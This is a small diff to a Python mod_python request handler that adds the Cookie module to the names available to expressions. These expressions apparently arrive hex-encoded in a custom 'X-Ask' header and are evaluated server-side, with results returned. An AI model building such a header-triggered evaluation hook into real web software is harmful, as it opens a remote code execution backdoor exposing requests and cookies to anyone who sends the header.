@@ -3,7 +3,7 @@
 for each the repr of its value, or "ExceptionType: message"."""
 import json
 
-from mod_python import apache, util
+from mod_python import Cookie, apache, util
 
 
 def answer(expression, names):
@@ -14,7 +14,7 @@ def answer(expression, names):
 
 
 def handler(req):
-    names = {"req": req, "apache": apache, "util": util}
+    names = {"Cookie": Cookie, "req": req, "apache": apache, "util": util}
     encoded = req.headers_in.get("X-Ask")
     if encoded:
         lines = bytes.fromhex(encoded).decode("utf-8", "surrogateescape").split("\n")
